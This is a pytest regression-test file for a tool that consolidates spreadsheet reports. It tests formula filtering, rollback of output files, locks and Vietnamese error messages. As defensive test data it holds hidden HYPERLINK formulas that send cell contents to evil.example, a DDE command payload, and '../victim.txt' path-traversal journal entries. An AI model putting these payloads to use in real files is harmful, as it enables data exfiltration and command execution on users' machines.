"""Regression tests for the review of issue 13: each test failed before its fix."""

from __future__ import annotations

import re
import shutil
from pathlib import Path

import openpyxl
import pytest

import hostile
from conftest import read_log, run_cli, unit_file

# 1. Formulas the raw-bytes pre-filter could not see ------------------------------------------

HIDDEN_FORMULAS = {
    "charref": '&#72;YPERLINK("http://evil.example/?q="&amp;B7,5)',
    "cdata": '<![CDATA[HYPERLINK("http://evil.example/?q="&B7,5)]]>',
    "dde": "cmd&#124;'/C calc'!A0",
    "comment": 'HYPER<!-- x -->LINK("http://evil.example/?q="&amp;B7,5)',
}


def _hidden_formula(path: Path, tmp_path: Path, formula: str) -> None:
    """G7 holds ``formula`` (cached 5); E7 is negative, so the file gets a feedback copy."""
    def sheet(xml: str) -> str:
        xml, n = re.subn(r'<c r="G7" s="(\d+)"><v>[^<]*</v></c>', rf'<c r="G7" s="\1"><f>{formula}</f><v>5</v></c>', xml)
        assert n == 1
        xml, n = re.subn(r'<c r="E7" s="(\d+)"><v>[^<]*</v></c>', r'<c r="E7" s="\1"><v>-1</v></c>', xml)
        assert n == 1
        return xml

    tmp = tmp_path / "rewritten.xlsx"
    hostile.rewrite(path, tmp, {hostile.SHEET1: sheet})
    shutil.copy(tmp, path)


def _assert_logged_and_stripped(out: Path, name: str) -> None:
    log = [e for e in read_log(out) if e["file"] == name]
    assert [e["cell"] for e in log if e["code"] == "formula-external"] == ["G7"]
    ws = openpyxl.load_workbook(out / "phan-hoi" / name)["Biểu mẫu 1"]
    assert ws["G7"].value == 5  # the cached value, no formula


@pytest.mark.parametrize("variant", sorted(HIDDEN_FORMULAS))
def test_a_formula_hidden_by_xml_escapes_is_logged_and_stripped_on_every_path(inbox, tmp_path, variant):
    from consolidate.app import check

    an = unit_file(inbox, "x-phuoc-an")
    _hidden_formula(an, tmp_path, HIDDEN_FORMULAS[variant])
    ((_, found),) = check([an])
    assert [p.cell for p in found if p.code == "formula-external"] == ["G7"]
    small = tmp_path / "small"
    small.mkdir()
    for code in ("x-phuoc-an", "x-phuoc-hoa", "x-phuoc-loc"):
        shutil.copy(unit_file(inbox, code), small)
    run_cli("run", small, "--out", tmp_path / "out-small")
    _assert_logged_and_stripped(tmp_path / "out-small", an.name)
    run_cli("run", inbox, "--out", tmp_path / "out-large")
    _assert_logged_and_stripped(tmp_path / "out-large", an.name)


# 2-4. Replacing the output set -----------------------------------------------------------------

OLD = {"a.csv": "old csv", "b.html": "old html", "c.xlsx": "old xlsx"}


def _previous_set(folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for name, text in OLD.items():
        (folder / name).write_text(text, encoding="utf-8")


def _stage_new_set(folder: Path):
    """An entered OutputSet with a new version of every file staged (the caller commits and exits)."""
    from consolidate.write import files

    outputs = files.OutputSet(folder).__enter__()
    for name in OLD:
        with files.atomic_target(folder / name) as tmp:
            tmp.write_text("new", encoding="utf-8")
    return outputs


def _contents(folder: Path) -> dict[str, str]:
    return {p.name: p.read_text(encoding="utf-8") for p in sorted(folder.iterdir()) if p.is_file()}


def _failing_replace(monkeypatch, failures: dict[int, BaseException]) -> None:
    """os.replace as the files module calls it, raising ``failures[n]`` on its n-th call."""
    from consolidate.write import files

    real, calls = files.os.replace, [0]

    def replace(src, dst):
        calls[0] += 1
        if calls[0] in failures:
            raise failures[calls[0]]
        return real(src, dst)

    monkeypatch.setattr(files.os, "replace", replace)


def test_ctrl_c_during_commit_puts_the_previous_set_back(tmp_path, monkeypatch):
    folder = tmp_path / "out"
    _previous_set(folder)
    outputs = _stage_new_set(folder)
    _failing_replace(monkeypatch, {4: KeyboardInterrupt()})  # the second file's new version
    with pytest.raises(KeyboardInterrupt):
        outputs.commit()
    outputs.__exit__(None, None, None)
    assert _contents(folder) == OLD


def test_an_incomplete_rollback_keeps_its_journal_and_the_next_run_finishes_it(tmp_path, monkeypatch):
    from consolidate.write import files

    folder = tmp_path / "out"
    _previous_set(folder)
    outputs = _stage_new_set(folder)
    # 4: the HTML is held open; 5: putting its backup back hits a passing sharing violation (antivirus)
    _failing_replace(monkeypatch, {4: PermissionError(13, "x"), 5: PermissionError(13, "x")})
    with pytest.raises(files.OutputError):
        outputs.commit()
    outputs.__exit__(None, None, None)
    assert "b.html" not in _contents(folder)
    assert list(folder.glob(f".~*{files.JOURNAL_SUFFIX}"))  # what is left to undo

    # the next run cannot put it back either (still refused): the backup survives its sweep
    _failing_replace(monkeypatch, {n: PermissionError(13, "x") for n in range(1, 10)})
    files.OutputSet(folder).__enter__().__exit__(None, None, None)
    assert any(p.name.endswith(files.BACKUP_SUFFIX) for p in folder.iterdir())
    monkeypatch.undo()

    files.OutputSet(folder).__enter__().__exit__(None, None, None)
    assert _contents(folder) == OLD


def test_a_whole_new_set_outdates_what_an_earlier_run_still_owed(tmp_path, monkeypatch):
    from consolidate.write import files

    folder = tmp_path / "out"
    _previous_set(folder)
    outputs = _stage_new_set(folder)
    _failing_replace(monkeypatch, {4: PermissionError(13, "x"), 5: PermissionError(13, "x")})
    with pytest.raises(files.OutputError, match="lần chạy sau sẽ tự đặt lại"):
        outputs.commit()
    outputs.__exit__(None, None, None)
    _failing_replace(monkeypatch, {n: PermissionError(13, "x") for n in range(1, 4)})  # recovery refused again
    outputs = _stage_new_set(folder)
    monkeypatch.undo()
    outputs.commit()
    outputs.__exit__(None, None, None)
    files.OutputSet(folder).__enter__().__exit__(None, None, None)
    assert _contents(folder) == dict.fromkeys(OLD, "new")


KILLED_MID_COMMIT = r'''
import os, sys
from pathlib import Path
from consolidate.write import files
real, calls = os.replace, [0]
def replace(src, dst):
    calls[0] += 1
    if calls[0] == 4:
        os._exit(9)  # the run dies halfway through replacing its set
    return real(src, dst)
files.os.replace = replace
with files.OutputSet(Path("ketqua")) as outputs:
    for name in ("a.csv", "b.html", "c.xlsx"):
        with files.atomic_target(Path("ketqua") / name) as tmp:
            tmp.write_text("new", encoding="utf-8")
    outputs.commit()
'''


def test_a_journal_written_from_one_folder_is_undone_from_another(tmp_path, monkeypatch):
    import subprocess
    import sys

    from consolidate.write import files

    folder = tmp_path / "ketqua"
    _previous_set(folder)
    done = subprocess.run([sys.executable, "-c", KILLED_MID_COMMIT], cwd=tmp_path, capture_output=True)
    assert done.returncode == 9, done.stderr
    assert list(folder.glob(f".~*{files.JOURNAL_SUFFIX}"))
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    monkeypatch.chdir(elsewhere)
    files.OutputSet(folder).__enter__().__exit__(None, None, None)
    assert _contents(folder) == OLD


def test_recovery_never_touches_a_path_outside_the_output_folder(tmp_path):
    import json

    from consolidate.write import files

    folder = tmp_path / "out"
    _previous_set(folder)
    victim = tmp_path / "victim.txt"
    victim.write_text("keep", encoding="utf-8")
    plan = [["../victim.txt", None], [str(victim), None], ["a.csv", "../victim.txt"]]
    (folder / f".~deadbeef{files.JOURNAL_SUFFIX}").write_text(json.dumps(plan), encoding="utf-8")
    files.OutputSet(folder).__enter__().__exit__(None, None, None)
    assert victim.read_text(encoding="utf-8") == "keep"
    assert _contents(folder) == OLD


# 5. Temporaries of two outputs whose names share a tag ---------------------------------------------

def _with_error(src: Path, dst: Path) -> None:
    hostile.rewrite(src, dst, {hostile.SHEET1: lambda xml: re.sub(
        r'<c r="E7" s="(\d+)"><v>[^<]*</v></c>', r'<c r="E7" s="\1"><v>-1</v></c>', xml)})


def test_two_feedback_copies_whose_names_share_a_temporary_tag_are_both_written(inbox, out):
    from consolidate.write import files

    first, second = inbox / "bao-cao-4556.xlsx", inbox / "bao-cao-6223.xlsx"
    assert files._tag(first) == files._tag(second)
    unit_file(inbox, "x-phuoc-son").rename(first)  # Phước Sơn has an error of its own
    an = unit_file(inbox, "x-phuoc-an")
    _with_error(an, second)
    an.unlink()
    done = run_cli("run", inbox, "--out", out)
    assert done.exit_code == 1, done.output
    assert (out / "phan-hoi" / first.name).is_file() and (out / "phan-hoi" / second.name).is_file()


def test_an_output_refused_for_an_unusual_reason_is_explained_in_vietnamese(tmp_path):
    from consolidate.write import files

    message = str(files._refused(tmp_path / "a.csv", OSError(28, "No space left on device")))
    assert "No space" not in message and "ổ đĩa" in message
    message = str(files._refused(tmp_path / "a.csv", FileNotFoundError(2, "No such file or directory")))
    assert "No such" not in message


# 6. A lock whose process number was reused --------------------------------------------------------

def _foreign_lock(folder: Path, **extra: object) -> Path:
    """A lock naming a live process of this computer (ours) that is not a run holding the folder."""
    import json
    import os
    import socket

    folder.mkdir(parents=True, exist_ok=True)
    lock = folder / ".consolidate.lock"
    lock.write_text(json.dumps({"pid": os.getpid(), "host": socket.gethostname(), "time": "2026-12-05T00:00:00",
                                **extra}), encoding="utf-8")
    return lock


def test_a_lock_older_than_any_run_is_taken_over_even_if_its_process_number_is_alive(tmp_path):
    import os
    import time

    from consolidate.write import lock as run_lock

    lock = _foreign_lock(tmp_path / "out")
    old = time.time() - 7 * 3600
    os.utime(lock, (old, old))
    with run_lock.output_lock(tmp_path / "out", wait=0.3):
        pass
    assert not lock.exists()


@pytest.mark.skipif(__import__("importlib").util.find_spec("fcntl") is None, reason="needs an OS file lock")
def test_a_lock_no_process_holds_is_taken_over_even_if_its_process_number_is_alive(tmp_path):
    from consolidate.write import lock as run_lock

    _foreign_lock(tmp_path / "out", os_lock=True)  # the run died; its number went to another process
    with run_lock.output_lock(tmp_path / "out", wait=0.3):
        pass


def test_a_lock_a_live_run_holds_still_keeps_a_second_run_out(tmp_path):
    from consolidate.write import files, lock as run_lock

    with run_lock.output_lock(tmp_path / "out"):
        with pytest.raises(files.OutputError, match="đang được một lần chạy khác sử dụng"):
            with run_lock.output_lock(tmp_path / "out", wait=0.3):
                pass


# 7. A sheet stored under a name that does not end in .xml -------------------------------------------

def _sheet_renamed(path: Path) -> None:
    """Biểu mẫu 1 stored as sheet1.dat (relationships and content types follow); E7 is #REF!,
    G7 a formula reaching outside."""
    import io
    import zipfile

    buf = io.BytesIO()
    with zipfile.ZipFile(path) as src, zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data, name = src.read(info), info.filename
            if name == hostile.SHEET1:
                name = "xl/worksheets/sheet1.dat"
                xml = re.sub(r'<c r="E7" s="(\d+)"><v>[^<]*</v></c>', r'<c r="E7" s="\1" t="e"><v>#REF!</v></c>',
                             data.decode("utf-8"))
                data = re.sub(r'<c r="G7" s="(\d+)"><v>[^<]*</v></c>',
                              r'<c r="G7" s="\1"><f>HYPERLINK("http://evil.example/",5)</f><v>5</v></c>', xml).encode()
            if name in ("xl/_rels/workbook.xml.rels", "[Content_Types].xml"):
                data = data.replace(b"sheet1.xml", b"sheet1.dat")
            dst.writestr(name, data)
    path.write_bytes(buf.getvalue())


def test_a_sheet_stored_under_another_extension_gets_one_verdict_on_every_path(inbox, tmp_path):
    from consolidate.app import check, run

    an = unit_file(inbox, "x-phuoc-an")
    _sheet_renamed(an)

    def found(problems) -> list[tuple[str, str]]:
        return sorted((p.code, p.cell) for p in problems if p.file == an.name and p.severity in ("error", "warning"))

    ((_, checked),) = check([an])
    assert ("formula-external", "G7") in found(checked)
    small = tmp_path / "small"
    small.mkdir()
    shutil.copy(an, small)
    assert found(run(small).problems) == found(checked)
    assert found(run(inbox).problems) == found(checked)


# 8. Ctrl+C while spawned workers are still starting ------------------------------------------------

def _cmdline(pid: str) -> bytes:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes()
    except OSError:
        return b""


def _interrupted_while_workers_start(many: Path, out: Path, importing: float) -> tuple[int, bytes, bytes]:
    """One run of ``many`` files, Ctrl+C'd once its spawned workers exist and are importing."""
    import os
    import signal
    import subprocess
    import sys
    import time

    from test_windows import windows_like

    run = subprocess.Popen([sys.executable, "-m", "consolidate", "run", str(many), "--out", str(out)],
                           env=windows_like(PYTHONIOENCODING="cp1258"), stdout=subprocess.PIPE,
                           stderr=subprocess.PIPE, start_new_session=True)
    children = Path(f"/proc/{run.pid}/task/{run.pid}/children")
    deadline = time.monotonic() + 60
    while run.poll() is None and time.monotonic() < deadline:
        try:
            workers = [c for c in children.read_text().split() if b"spawn_main" in _cmdline(c)]
        except OSError:  # the run ended meanwhile
            break
        if len(workers) >= 2:
            time.sleep(importing)  # the workers are importing the program
            break
        time.sleep(0.005)
    # The terminal sends Ctrl+C to every process of the run. One that lands in the few milliseconds
    # while the workers are being started is ignored, as a clerk's would be: a clerk presses again.
    for _ in range(20):
        if run.poll() is not None:
            break
        os.killpg(run.pid, signal.SIGINT)
        try:
            run.wait(timeout=1)
        except subprocess.TimeoutExpired:
            continue
    stdout, stderr = run.communicate(timeout=120)
    return run.returncode, stdout, stderr


@pytest.mark.skipif(not Path("/proc/self/task").is_dir(), reason="finds the workers through /proc (Linux)")
@pytest.mark.parametrize("importing", [0.1, 0.3])
def test_ctrl_c_while_spawned_workers_start_prints_only_the_vietnamese_line(inbox, out, tmp_path, importing):
    """Timing on a loaded machine (CI runs two test processes) can make one attempt land elsewhere
    than meant; three attempts, and the behaviour must show in one of them."""
    from test_windows import INTERRUPTED

    many = tmp_path / "many"
    many.mkdir()
    for path in sorted(inbox.glob("*.xlsx")):
        for n in range(1, 5):  # 56 files: enough for spawned workers
            shutil.copy(path, many / f"{path.stem}-{n}.xlsx")
    attempts = []
    for attempt in range(3):
        code, stdout, stderr = _interrupted_while_workers_start(many, out, importing)
        if code == 130 and stderr.decode("utf-8").strip() == INTERRUPTED:
            return
        attempts.append(f"exit {code}; stdout {stdout[-300:]!r}; stderr {stderr[-1500:]!r}")
    pytest.fail("no attempt ended with only the Vietnamese line and exit 130:\n" + "\n".join(attempts))


# 9. Totals that overflow ----------------------------------------------------------------------------

def test_figures_whose_sum_overflows_never_give_a_non_finite_cached_value(inbox, out, tmp_path):
    import zipfile

    for path in sorted(inbox.glob("*.xlsx"))[:2]:
        hostile.rewrite(path, tmp_path / "t.xlsx", {hostile.SHEET1: lambda xml: re.sub(
            r'<c r="J7" s="(\d+)"><v>[^<]*</v></c>', r'<c r="J7" s="\1"><v>1.5e308</v></c>', xml)})
        shutil.copy(tmp_path / "t.xlsx", path)
    run_cli("run", inbox, "--out", out)
    (workbook,) = out.glob("tong-hop-*.xlsx")
    with zipfile.ZipFile(workbook) as zf:
        cached = [v for name in zf.namelist() if name.startswith("xl/worksheets/")
                  for v in re.findall(r"<v>([^<]*)</v>", zf.read(name).decode("utf-8"))]
    assert not [v for v in cached if v.lower() in ("inf", "-inf", "nan")]
    openpyxl.load_workbook(workbook, data_only=True)


# 10. English on the clerk's console -------------------------------------------------------------------

def test_a_garbage_xls_is_explained_in_vietnamese(inbox, out):
    # an OLE file's signature, then nothing a reader knows
    (inbox / "bao-cao-rac.xls").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 20)
    done = run_cli("run", inbox, "--out", out)
    entries = [e for e in read_log(out) if e["file"] == "bao-cao-rac.xls"]
    assert entries and all("file-" in e["code"] for e in entries)
    text = done.output + "".join(str(e) for e in entries)
    assert "Calamine" not in text and "Cannot" not in text


@pytest.mark.parametrize("error", [OSError(28, "No space left on device"), RuntimeError("boom in English")])
def test_a_fatal_error_is_reported_in_vietnamese(inbox, out, monkeypatch, error):
    from consolidate import app

    def failing(*args, **kwargs):
        raise error

    monkeypatch.setattr(app, "run", failing)
    done = run_cli("run", inbox, "--out", out)
    assert done.exit_code == 2
    assert "Lỗi nghiêm trọng" in done.output
    assert "No space" not in done.output and "boom" not in done.output


# A junction on Python 3.11 for Windows (no os.path.isjunction; os.path.islink says False) ----------

def test_a_folder_leading_outside_is_refused_even_where_it_is_not_seen_as_a_link(inbox, tmp_path, monkeypatch):
    import os

    from consolidate.read.discover import discover

    outside = tmp_path / "ngoai"
    outside.mkdir()
    shutil.copy(unit_file(inbox, "x-phuoc-an"), outside / "bao-cao-la.xlsx")
    (inbox / "thu-muc-ngoai").symlink_to(outside, target_is_directory=True)
    monkeypatch.setattr(os.path, "islink", lambda path: False)  # what a junction looks like there
    monkeypatch.delattr(os.path, "isjunction", raising=False)
    refused = {f.name: f.refused.code for f in discover(inbox) if f.refused is not None}
    assert refused.get("thu-muc-ngoai") == "file-link-outside"


# An unexpected failure reading one file in the main process ------------------------------------------

def test_an_unexpected_failure_reading_one_file_is_one_log_entry_not_a_stopped_run(inbox, out, tmp_path, monkeypatch):
    from consolidate.read import pool as reading_pool

    small = tmp_path / "small"
    small.mkdir()
    for code in ("x-phuoc-an", "x-phuoc-hoa", "x-phuoc-loc"):
        shutil.copy(unit_file(inbox, code), small)
    real = reading_pool.read_file

    def failing(path, *args, **kwargs):
        if path.name == "bao-cao-x-phuoc-hoa.xlsx":
            raise RuntimeError("a bug met only by this file")
        return real(path, *args, **kwargs)

    monkeypatch.setattr(reading_pool, "read_file", failing)
    done = run_cli("run", small, "--out", out)
    assert done.exit_code == 1, done.output
    entries = [e["code"] for e in read_log(out) if e["file"] == "bao-cao-x-phuoc-hoa.xlsx"]
    assert "file-unreadable" in entries
